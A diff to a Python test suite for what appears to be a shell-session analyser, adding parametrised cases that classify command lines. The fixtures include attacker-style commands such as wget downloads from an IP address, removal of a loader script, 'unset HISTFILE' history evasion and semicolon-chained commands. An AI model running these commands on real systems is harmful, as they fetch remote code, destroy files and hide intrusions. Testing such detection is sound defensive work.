@@ -213,6 +213,23 @@ PLAIN = st.lists(
 )  # fmt: skip
 
 
+@pytest.mark.parametrize(
+    ("lines", "idle"),
+    [
+        (["id; rm -f x.sh; ls"], True),
+        (["rm a; wget http://203.0.113.9/a; rm b"], None),
+        (["wget http://203.0.113.9/a", "id; rm a"], None),
+        (["id; ls"], None),
+        (["echo 1 > /tmp/.p; rm /tmp/.p; rm -rf /tmp/loader.sh"], True),
+    ],
+)
+def test_a_line_as_it_stands_tells_that_none_of_its_removals_follows_anything(
+    lines: list[str], idle: bool | None
+) -> None:
+    facts = read_script(lines).facts[-1].get(lines[-1])
+    assert (facts and facts.values.get("session.idle")) is idle
+
+
 @settings(max_examples=300)
 @given(PLAIN)
 def test_a_session_on_one_line_tells_what_the_lines_tell(lines: list[str]) -> None:
@@ -231,7 +248,8 @@ def test_a_session_on_one_line_tells_what_the_lines_tell(lines: list[str]) -> No
         ]
 
     apart = flat(read_script(lines))
-    together = flat(read_script(["; ".join(lines)]))
+    whole = "; ".join(lines)
+    together = [(text, said) for text, said in flat(read_script([whole])) if text in lines or text != whole]
     latest = dict(apart)  # on one line the same text has one set of facts: the latest one's
     assert {text for text, _ in together} == set(latest)
     for text, said in together:
@@ -279,7 +297,9 @@ def test_one_long_line_is_no_trouble(text: str) -> None:
         (["sudo rm -rf /tmp/a"], True),
         (["xyzzy", "rm a"], True),
         (["rm -rf /tmp/a", "wget http://203.0.113.9/a", "rm b"], None),
-        (["echo a > k", "rm b"], None),
+        (["echo a > k", "rm b"], True),
+        (["touch k; mkdir d", "rm b"], True),
+        (["echo 'id; w' > k", "rm b"], None),
         (["echo a | passwd", "rm b"], None),
         (["unset HISTFILE; pkill a", "rm b"], None),
         (["./x", "rm b"], None),
